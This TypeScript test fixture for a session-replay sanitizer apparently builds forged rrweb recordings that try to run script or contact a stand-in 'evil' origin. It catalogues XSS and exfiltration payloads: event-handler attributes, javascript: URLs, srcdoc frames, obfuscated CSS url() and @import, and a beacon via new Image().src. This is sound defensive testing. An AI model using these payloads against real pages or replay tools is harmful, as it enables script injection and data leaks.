/** Recordings that try to run, fetch or go somewhere. `evil` is the origin that must never hear of it. */
import { add, bodyId, change, element, type Forgery, idOf, type Raw, svg, text } from './forged-page.ts';

const run = (evil: string) => `top.ran = true; window.ran = true; new Image().src = '${evil}/ran'`;

/** A click of the recorded visitor on a node, as strong as rrweb replays one. */
const press = (id: number): Raw[] => [1, 0, 2, 4, 5].map((type) => ({ source: 2, type, id, x: 5, y: 5 }));

const forged = (nodes: readonly Raw[], changes: readonly Raw[] = []): Forgery => ({ nodes, changes });

type Attack = (evil: string) => Forgery;

const inPage =
  (make: (evil: string) => Raw[]): Attack =>
  (evil) =>
    forged(make(evil));

export const attacks: Readonly<Record<string, Attack>> = {
  'a script': inPage((evil) => [element('script', {}, text(run(evil)))]),
  'a script in capitals': inPage((evil) => [element('SCRIPT', { src: `${evil}/a.js` }, text(run(evil)))]),
  'a script with a prefix': inPage((evil) => [element('svg:script', { href: `${evil}/a.js` }, text(run(evil)))]),
  'a script in SVG': inPage((evil) => [svg('svg', {}, svg('script', { href: `${evil}/a.js` }, text(run(evil))))]),
  'an image with onerror': inPage((evil) => [element('img', { src: 'x:', onerror: run(evil) })]),
  'an image with ONERROR': inPage((evil) => [element('IMG', { src: `${evil}/a.png`, ONERROR: run(evil) })]),
  'an SVG with onload': inPage((evil) => [svg('svg', { onload: run(evil), 'xml:onload': run(evil) })]),
  'a body with ONLOAD': inPage((evil) => [element('body', { onload: run(evil), ONLOAD: run(evil) })]),
  'a details with ontoggle': inPage((evil) => [element('details', { open: '', ontoggle: run(evil) }, text('x'))]),
  'an animation with onbegin': inPage((evil) => [svg('svg', {}, svg('animate', { attributeName: 'x', dur: '1s', onbegin: run(evil) }))]),
  'a frame with srcdoc': inPage((evil) => [element('iframe', { srcdoc: `<script>${run(evil)}</script><img src="${evil}/srcdoc.png">` })]),
  'a frame with a javascript address': inPage((evil) => [element('iframe', { src: `javascript:${run(evil)}` })]),
  'a frame of another site': inPage((evil) => [element('iframe', { src: `${evil}/frame` }), element('FRAME', { src: `${evil}/frame` })]),
  'an object and an embed': inPage((evil) => [element('object', { data: `${evil}/o.swf` }), element('embed', { src: `${evil}/e.swf` })]),
  'a video, its poster and its sources': inPage((evil) => [
    element(
      'video',
      { src: `${evil}/v.mp4`, poster: `${evil}/p.png`, autoplay: '', rr_mediaState: 'played' },
      element('source', { src: `${evil}/w.mp4` }),
    ),
    element('audio', { src: `${evil}/a.mp3`, rr_mediaState: 'played', rr_mediaCurrentTime: 1 }),
  ]),
  'pictures by src, srcset and picture': inPage((evil) => [
    element('img', { src: `${evil}/a.png`, srcset: `${evil}/b.png 2x`, width: '10', height: '10' }),
    element('picture', {}, element('source', { srcset: `${evil}/c.png` }), element('img', { src: `//${new URL(evil).host}/d.png` })),
    element('input', { type: 'image', src: `${evil}/e.png` }),
    element('table', { background: `${evil}/f.png` }),
    element('body', { background: `${evil}/g.png` }),
  ]),
  'a picture that rrweb would inline': inPage((evil) => [
    element('img', { rr_dataURL: `${evil}/a.png` }),
    element('canvas', { rr_dataURL: `${evil}/b.png`, width: '5', height: '5' }),
  ]),
  'a meta refresh': inPage((evil) => [element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` })]),
  'a base address': inPage((evil) => [element('base', { href: `${evil}/` }), element('img', { src: 'relative.png' })]),
  'a stylesheet, an icon and a manifest': inPage((evil) => [
    element('link', { rel: 'stylesheet', href: `${evil}/a.css` }),
    element('link', { rel: 'icon', href: `${evil}/a.ico` }),
    element('LINK', { rel: 'manifest', href: `${evil}/m.json` }),
  ]),
  'resource hints': inPage((evil) =>
    ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender'].map((rel) =>
      element('link', { rel, href: `${evil}/${rel}`, as: 'script' }),
    ),
  ),
  'an import': inPage((evil) => [element('style', { _cssText: `@import "${evil}/a.css"; @\\69mport url(${evil}/b.css);` })]),
  'a font': inPage((evil) => [element('style', { _cssText: `@font-face{font-family:f;src:url(${evil}/f.woff)}p{font-family:f}` })]),
  'addresses in CSS': inPage((evil) => [
    element('style', { _cssText: `p{background:url(${evil}/a.png);cursor:url('${evil}/b.cur'),auto;list-style:\\75rl("${evil}/c.png")}` }),
    element('style', {}, text(`p::before{content:url(${evil}/d.png)} p{border-image-source:image-set("${evil}/e.png" 1x)}`)),
    element('p', { style: `background-image:url("${evil}/f.png");mask:u\\72l(${evil}/g.png)` }, text('x')),
    svg('svg', {}, svg('rect', { fill: `url(${evil}/h.svg#a)`, filter: `url(${evil}/i.svg#b)`, width: '5', height: '5' })),
  ]),
  'CSS cut into pieces': inPage((evil) => [
    element('style', {}, text('p{background:u'), text(`rl(${evil}/a.png)}`)),
    element('style', {}, text('@imp'), text(`ort "${evil}/b.css";`)),
    element('style', { _cssText: `p{background:u/* rr_split */rl(${evil}/c.png)}` }, text(''), text('')),
  ]),
  'rules added later': (evil) => {
    const style = element('style', { _cssText: 'p{color:red}' });
    const id = idOf(style);
    return forged(
      [style],
      [
        { source: 8, id, adds: [{ rule: `p{background:url(${evil}/a.png)}`, index: 0 }] },
        { source: 13, id, index: [0], set: { property: 'background', value: `url(${evil}/b.png)` } },
        { source: 15, id: 1, styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${evil}/c.png)}` }] }], styleIds: [1] },
        { source: 8, styleId: 1, replaceSync: `body{background:url(${evil}/d.png)}` },
        change({ texts: [{ id, value: `p{background:url(${evil}/e.png)}` }] }),
        change({ attributes: [{ id, attributes: { _cssText: `p{background:url(${evil}/f.png)}` } }] }),
      ],
    );
  },
  'elements added later': (evil) =>
    forged(
      [],
      [
        change({
          adds: [add(element('img', { src: `${evil}/a.png`, onerror: run(evil) })), add(element('script', { src: `${evil}/a.js` }))],
        }),
        change({ adds: [add(element('IFRAME', { src: `${evil}/b`, srcdoc: `<script>${run(evil)}</script>` }))] }),
      ],
    ),
  'attributes changed later': (evil) => {
    const [image, link, part] = [element('img'), element('a', {}, text('x')), element('p', {}, text('y'))];
    return forged(
      [image, link, part],
      [
        change({
          attributes: [
            { id: idOf(image), attributes: { src: `${evil}/a.png`, srcset: `${evil}/b.png`, onerror: run(evil), OnError: run(evil) } },
            { id: idOf(link), attributes: { href: `javascript:${run(evil)}`, onclick: run(evil), ping: `${evil}/ping` } },
            {
              id: idOf(part),
              attributes: { style: { background: `url(${evil}/c.png)`, 'mask-image': [`url(${evil}/d.png)`, 'important'] } },
            },
          ],
        }),
        ...press(idOf(link)),
      ],
    );
  },
  'a document put into a frame': (evil) => {
    const frame = element('iframe');
    const inner = element(
      'html',
      {},
      element('body', {}, element('script', {}, text(run(evil))), element('img', { src: `${evil}/a.png` })),
    );
    return forged(
      [frame],
      [change({ isAttachIframe: true, adds: [add({ type: 0, id: 9000, childNodes: [inner], rootId: 9000 }, idOf(frame))] })],
    );
  },
  'a form that is sent': (evil) => {
    const button = element('button', { formaction: `${evil}/button`, autofocus: '' }, text('Send'));
    return forged(
      [element('form', { action: `${evil}/form`, method: 'post', target: '_top' }, element('input', { name: 'a' }), button)],
      press(idOf(button)),
    );
  },
  'links that lead away': (evil) => {
    const links = [
      element('a', { href: `${evil}/top`, target: '_top', ping: `${evil}/ping` }, text('top')),
      element('a', { href: `javascript:${run(evil)}` }, text('js')),
      element('map', {}, element('area', { href: `${evil}/area` })),
      svg('svg', {}, svg('a', { 'xlink:href': `${evil}/svg` }, svg('text', {}, text('svg')))),
    ];
    return forged(
      links,
      links.flatMap((link) => press(idOf(link))),
    );
  },
  'SVG that fetches': inPage((evil) => [
    svg('svg', {}, svg('use', { href: `${evil}/u.svg#a` }), svg('image', { 'xlink:href': `${evil}/i.png`, href: `${evil}/j.png` })),
    svg(
      'svg',
      {},
      svg('filter', {}, svg('feimage', { href: `${evil}/fe.png` })),
      svg('set', { attributeName: 'href', to: `javascript:${run(evil)}` }),
    ),
    svg('svg', {}, svg('foreignobject', {}, element('iframe', { src: `${evil}/fo` }), element('img', { src: `${evil}/fo.png` }))),
    element('math', { href: `${evil}/m` }, element('mi', { 'xlink:href': `javascript:${run(evil)}` }, text('x'))),
  ]),
  'fonts and canvases': (evil) =>
    forged(
      [element('canvas', { width: '5', height: '5' })],
      [
        { source: 10, family: 'f', fontSource: `url(${evil}/f.woff)`, buffer: false },
        { source: 9, id: bodyId, type: 0, property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${evil}/c.png` }] },
        { source: 9, id: bodyId, type: 0, property: 'x', args: [{ rr_type: 'Function', args: [run(evil)] }] },
      ],
    ),
  'custom elements and shadow roots': (evil) => {
    const host = {
      ...element('x-host', { onclick: run(evil) }, { ...element('img', { src: `${evil}/s.png`, onerror: run(evil) }), isShadow: true }),
      isShadowHost: true,
      isCustom: true,
    };
    const broken = { ...element('input', {}, { ...element('b'), isShadow: true }), isShadowHost: true };
    return forged([host, broken]);
  },
  'names that objects have': inPage((evil) => [
    element('p', JSON.parse(`{"__proto__":{"onclick":"${evil}"},"constructor":"x","toString":"y"}`), text('x')),
    element('__proto__', {}, text('x')),
    element('constructor', { src: `${evil}/a` }),
  ]),
};
